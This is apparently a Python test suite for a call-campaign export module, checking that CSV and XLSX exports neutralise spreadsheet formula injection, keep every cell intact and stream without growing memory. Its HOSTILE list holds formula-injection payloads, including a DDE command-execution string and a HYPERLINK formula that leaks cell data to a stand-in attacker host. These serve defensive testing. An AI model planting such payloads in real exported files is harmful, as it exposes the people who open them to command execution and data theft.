"""Exports: nothing in them is calculated, nothing is lost, and memory does not grow with them."""

import csv
import io
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from xml.sax.saxutils import unescape
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from alodial.campaigns.exporting.cell_types import typed
from alodial.campaigns.exporting.rejected_rows import problem_blocks
from alodial.campaigns.exporting.results import OURS, SEPARATORS, TooWide, csv_blocks, write_csv, write_xlsx
from alodial.campaigns.formula_guard import is_formula, safe_cell, unsafe_cell
from alodial.campaigns.records import ResultRow
from alodial.campaigns.row_codec import RowProblem

HOSTILE = (
    "=1+1",
    "+998901234567",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '";=1+1',
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\r\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"see")',
    "998901234567",
    "0901234567",
)
MARKS = "=+-@＝＋－＠−"

texts = st.text(
    st.one_of(st.sampled_from(" '\"=+-@,;\t\r\n0123456789a＝−\u200b\xa0\0|%"), st.characters()), max_size=60
)


def a_row(number: int, *cells: str, **other: object) -> ResultRow:
    values: dict[str, object] = {"phones": ("+998901234567",), "extid": "1732345678901", "id": "01JD", **other}
    return ResultRow(number, cells, "completed", **values)  # type: ignore[arg-type]  # the fields that the test names


def read_back(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def sheets_of(path: Path) -> list[list[list[Any]]]:
    book = CalamineWorkbook.from_path(str(path))
    return [book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names]


# The guard


@given(texts)
@example("")
@example("'" * 5 + "=")
@example(";+1;+x")
def test_any_text_is_safe_as_a_cell_and_comes_back_as_it_was(text: str) -> None:
    safe = safe_cell(text)
    assert unsafe_cell(safe) == text
    assert safe.startswith("'") or not is_formula(safe)
    bare = re.sub(r"^[\s\0\u200b\"]+", "", safe)
    assert not bare or bare[0] not in MARKS


@given(texts, st.sampled_from([*SEPARATORS.values()]))
def test_a_program_set_up_for_another_separator_finds_no_formula_either(text: str, used: str) -> None:
    stream = io.StringIO()
    csv.writer(stream, delimiter=used, lineterminator="\r\n").writerow(["a", safe_cell(text), "b"])
    for part in re.split(r"[,;|\t\r\n]", stream.getvalue()):
        bare = re.sub(r"^[\s\0\u200b\xa0\"]+", "", part)
        if bare and bare[0] in "+-＋－−":
            assert re.fullmatch(r"[-+＋－−][0-9 ()./-]*\"?", bare)  # a phone behind a separator is only a number
        else:
            assert not bare or bare[0] not in MARKS


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_marked_as_text(text: str) -> None:
    assert "'" in safe_cell(text)
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["Азиз", "O'zbekiston", "'zgarish", "12:30", "2026-11-23", "1.5", "a, - b"[:2], "0", "7"]
)
def test_an_ordinary_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    assert unsafe_cell(text) == text


def test_a_megabyte_of_separators_is_guarded_in_no_time() -> None:
    for text in ("\t" * 10**6, ";+" * 500_000, " " * 10**6, "'" * 10**6, ";+" + "1" * 10**6 + "x"):
        assert unsafe_cell(safe_cell(text)) == text


# CSV


def test_the_original_columns_come_first_and_ours_behind_them() -> None:
    data = b"".join(csv_blocks([a_row(2, "998901234567", "Азиз")], ["Телефон", "Имя"]))
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")
    header, row = read_back(data)
    assert header == ["Телефон", "Имя", *OURS]
    values = dict(zip(header, row, strict=True))
    assert unsafe_cell(values["Телефон"]) == "998901234567"
    assert (values["Имя"], values["alodial_row"], values["alodial_extid"]) == ("Азиз", "2", "1732345678901")
    assert values["alodial_phones"] == "'+998901234567"


@pytest.mark.parametrize("delimiter", SEPARATORS.values())
def test_every_cell_of_a_csv_comes_back(delimiter: str) -> None:
    rows = [a_row(i, text, f"{text}\r\n{text}", dialstatus=text, reference=text) for i, text in enumerate(HOSTILE, 2)]
    read = read_back(b"".join(csv_blocks(rows, ["a", "b"], delimiter=delimiter)), delimiter)
    assert len(read) == len(rows) + 1
    for row, cells in zip(rows, read[1:], strict=True):
        back = [unsafe_cell(cell) for cell in cells]
        assert tuple(back[:2]) == row.cells
        assert back[2 + OURS.index("alodial_dialstatus")] == row.dialstatus
        assert back[2 + OURS.index("alodial_reference")] == row.reference


def test_a_hostile_column_name_is_guarded_too() -> None:
    header = read_back(b"".join(csv_blocks([], ["=1+1", "Телефон"])))[0]
    assert header[0] == "'=1+1"


def test_an_export_that_was_submitted_again_keeps_both_outcomes_apart() -> None:
    header = read_back(b"".join(csv_blocks([], ["phone", "alodial_state", "Alodial_Row"])))[0]
    assert len({name.casefold() for name in header}) == len(header)
    assert "alodial_state_2" in header
    assert "alodial_row_2" in header


def test_a_row_with_fewer_cells_keeps_our_columns_below_their_names() -> None:
    rows = [a_row(2, "1"), a_row(3, "1", "2", "3")]
    read = read_back(b"".join(csv_blocks(rows, ["a", "b"])))
    assert [row[2] for row in read] == ["alodial_row", "2", "3"]


def test_a_csv_goes_out_in_blocks_while_its_rows_are_read() -> None:
    read_rows = 0

    def rows() -> Iterator[ResultRow]:
        nonlocal read_rows
        for number in range(2, 20_000):
            read_rows += 1
            yield a_row(number, "998901234567")

    blocks = csv_blocks(rows(), ["phone"])
    assert len(next(blocks)) < 200_000
    assert read_rows < 2_000


def test_problems_go_back_with_their_reasons() -> None:
    bad = RowProblem(7, "phone", "not_a_number", "is no number", "write +998…", "=1", ("=1", "x"))
    header, row = read_back(b"".join(problem_blocks([bad], ["phone", "note"])))
    assert header[2:] == ["alodial_row", "alodial_column", "alodial_reason", "alodial_remedy"]
    assert row == ["'=1", "x", "7", "phone", "is no number", "write +998…"]


def test_an_export_that_breaks_off_leaves_no_file_behind(tmp_path: Path) -> None:
    def rows() -> Iterator[ResultRow]:
        yield a_row(2, "1")
        raise RuntimeError("Redis went away")

    for write, name in ((write_csv, "a.csv"), (write_xlsx, "a.xlsx")):
        (tmp_path / name).write_text("yesterday's")
        with pytest.raises(RuntimeError, match="Redis went away"):
            write(tmp_path / name, rows(), ["phone"])
        assert (tmp_path / name).read_text() == "yesterday's"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "a.xlsx"]


# XLSX


def test_every_cell_of_a_workbook_comes_back(tmp_path: Path) -> None:
    texts = [
        *HOSTILE,
        "a\0b\x07\x1b",
        "_x0041_",
        "<r><t>x</t></r>",
        "<r></c><f>1+1</f></r>",
        "  x  ",
        "&amp;<b>",
        "http://x.example",
        "1e5",
    ]
    rows = [a_row(i, text, talk_seconds=i, attempts=3, dialstatus=text) for i, text in enumerate(texts, 2)]
    write_xlsx(tmp_path / "a.xlsx", rows, ["phone"])
    (sheet,) = sheets_of(tmp_path / "a.xlsx")
    assert sheet[0] == ["phone", *OURS]
    for row, cells in zip(rows, sheet[1:], strict=True):
        values = dict(zip(sheet[0], cells, strict=True))
        # XML takes every newline of a text for a plain one, except where it is written as a sign.
        assert str(values["phone"]).replace("\r\n", "\n") == row.cells[0].replace("\r\n", "\n")
        assert values["alodial_dialstatus"] == values["phone"]
        assert values["alodial_phones"] == "+998901234567"
        assert values["alodial_extid"] == "1732345678901"
        assert (values["alodial_row"], values["alodial_talk_seconds"], values["alodial_attempts"]) == (
            row.number,
            row.number,
            3,
        )


def test_a_workbook_holds_no_formula_and_no_link(tmp_path: Path) -> None:
    texts = [*HOSTILE, "<r></t></is></c><c r='A9'><f>1+1</f></c></r>", "https://evil.example", "mailto:a@b.example"]
    write_xlsx(tmp_path / "a.xlsx", [a_row(i, t, record=t) for i, t in enumerate(texts, 2)], ["=1+1"])
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()
        assert not [name for name in archive.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet


def test_characters_that_xml_cannot_hold_do_not_spoil_the_workbook(tmp_path: Path) -> None:
    text = "".join(map(chr, range(32))) + "\x7f\x85\ufffe\uffff\ud800"
    write_xlsx(tmp_path / "a.xlsx", [a_row(2, text)], ["a"])
    (sheet,) = sheets_of(tmp_path / "a.xlsx")
    assert sheet[1][0] == text[:-3] + "\ufffd" * 3


def test_a_cell_longer_than_a_workbook_allows_is_cut_and_says_so(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", [a_row(2, "ё" * 32_767), a_row(3, "😀" * 20_000)], ["a"])
    (sheet,) = sheets_of(tmp_path / "a.xlsx")
    assert sheet[1][0] == "ё" * 32_767
    assert str(sheet[2][0]).endswith("[cut; the CSV export has all of it]")
    assert len(str(sheet[2][0]).encode("utf-16-le")) // 2 <= 32_767


def test_numbers_are_numbers_times_are_local_dates_and_phones_are_text(tmp_path: Path) -> None:
    cells = ("994412860", "12500", "0012", "12345678", "1.50", "+998994412860")
    row = a_row(2, *cells, last_attempt_at="2026-11-25T16:03:05.000Z", phones=("+998994412860",))
    write_xlsx(tmp_path / "a.xlsx", [row], list("abcdef"), zone=ZoneInfo("Asia/Tashkent"))
    (sheet,) = sheets_of(tmp_path / "a.xlsx")
    assert sheet[1][:6] == ["994412860", 12500, "0012", 12345678, 1.5, "+998994412860"]
    assert sheet[1][6 + OURS.index("alodial_last_attempt_at")] == datetime(2026, 11, 25, 21, 3, 5)  # noqa: DTZ001  # as a sheet has it
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        styles = archive.read("xl/styles.xml").decode()
        body = archive.read("xl/worksheets/sheet1.xml").decode()
    forms = re.findall(r"<xf [^>]*>", styles.partition("<cellXfs")[2])
    marked = [at for at, form in enumerate(forms) if "quotePrefix" in form]
    styles_of_phones = re.findall(r'<c r="(?:A|F|H)2" s="(\d+)"', body)
    assert len(styles_of_phones) == 3
    assert not set(map(int, styles_of_phones)) & set(marked)


@pytest.mark.parametrize(
    ("text", "value", "number_format"),
    [
        ("1500,50", 1500.5, "0.00"),
        ("-5", -5, "General"),
        ("01.11.2026", datetime(2026, 11, 1), "dd.mm.yyyy"),  # noqa: DTZ001  # as a sheet has it
        ("2026-11-01 09:05:00", datetime(2026, 11, 1, 9, 5), "yyyy-mm-dd hh:mm:ss"),  # noqa: DTZ001  # as above
    ],
)
def test_decimals_and_dates_of_the_list_are_what_they_are_and_look_as_they_were_written(
    text: str, value: object, number_format: str
) -> None:
    assert typed(text) == (value, number_format)


@pytest.mark.parametrize(
    "text", ["901234567", "007", "-0", "1.2.3", "31.02.2026", "01.01.1900", "1 500,50", "1e5", "-", "½"]
)
def test_what_would_lose_something_as_a_number_stays_a_text(text: str) -> None:
    assert typed(text) is None


def test_rows_beyond_one_sheet_go_on_to_the_next(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", (a_row(i, str(i)) for i in range(2, 27)), ["a"], sheet_rows=10)
    sheets = sheets_of(tmp_path / "a.xlsx")
    assert [len(sheet) for sheet in sheets] == [11, 11, 6]
    assert [row[0] for sheet in sheets for row in sheet[1:]] == list(range(2, 27))
    assert all(sheet[0] == ["a", *OURS] for sheet in sheets)


def test_a_full_last_sheet_is_not_followed_by_an_empty_one(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", (a_row(i, str(i)) for i in range(20)), ["a"], sheet_rows=10)
    assert [len(sheet) for sheet in sheets_of(tmp_path / "a.xlsx")] == [11, 11]


def test_no_rows_give_a_workbook_with_a_header(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "a.xlsx", [], ["a"])
    assert sheets_of(tmp_path / "a.xlsx") == [[["a", *OURS]]]


def test_more_columns_than_a_workbook_has_are_refused_with_the_remedy(tmp_path: Path) -> None:
    with pytest.raises(TooWide, match="export it as CSV"):
        write_xlsx(tmp_path / "a.xlsx", [], [str(i) for i in range(16_384)])
    assert not list(tmp_path.iterdir())


# Memory, and a real spreadsheet program

MEASURE = """
import resource, sys
from pathlib import Path
from alodial.campaigns.exporting.results import write_csv, write_xlsx
from alodial.campaigns.records import ResultRow
write, path, count = (write_csv if sys.argv[1].endswith("csv") else write_xlsx), Path(sys.argv[1]), int(sys.argv[2])
def rows():
    for i in range(count):
        phone = f"+99890{i:07d}"
        yield ResultRow(i, (phone, f"name {i}"), "completed", (phone,), extid=str(10**12 + i))
write(path, rows(), ["phone", "name"])
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_ten_times_the_rows_take_no_more_memory(tmp_path: Path, kind: str) -> None:
    def peak(count: int) -> int:
        command = [sys.executable, "-c", MEASURE, str(tmp_path / f"a.{kind}"), str(count)]
        return int(subprocess.run(command, check=True, capture_output=True, text=True).stdout)

    assert peak(50_000) - peak(5_000) < 8 * 1024  # KiB


@pytest.mark.slow
@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("opened_with", ["44", "59"])
def test_libreoffice_evaluates_nothing(tmp_path: Path, delimiter: str, opened_with: str) -> None:
    program = shutil.which("soffice")
    if program is None:
        pytest.skip("LibreOffice is not installed")
    planted = [text.replace("1+1", "1234*1001") for text in HOSTILE]
    rows = [a_row(i, text, f"x;{text}", f"x,{text}", dialstatus=text) for i, text in enumerate(planted, 2)]
    write_csv(tmp_path / "a.csv", rows, ["a", "b", "c"], delimiter=delimiter)
    (tmp_path / "control.csv").write_text("=1234*1001\r\n", "utf-8")  # shows that this reading does evaluate
    # Separator, quote, UTF-8, from row 1, with formulas evaluated where there are any (token 14).
    reading = f"--infilter=CSV:{opened_with},34,76,1,,1033,false,true,false,false,false,-1,true"
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    command = [
        program,
        profile,
        "--headless",
        reading,
        "--convert-to",
        "fods",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "a.csv"),
        str(tmp_path / "control.csv"),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=150)
    seen = unescape((tmp_path / "a.fods").read_text("utf-8"), {"&apos;": "'"})
    assert "1235234" in (tmp_path / "control.fods").read_text("utf-8")
    assert "table:formula" not in seen
    assert "1235234" not in seen  # 1234 * 1001
    if ord(delimiter) == int(opened_with):
        assert "'+998901234567" in seen
        assert 'office:value="998901234567"' not in seen
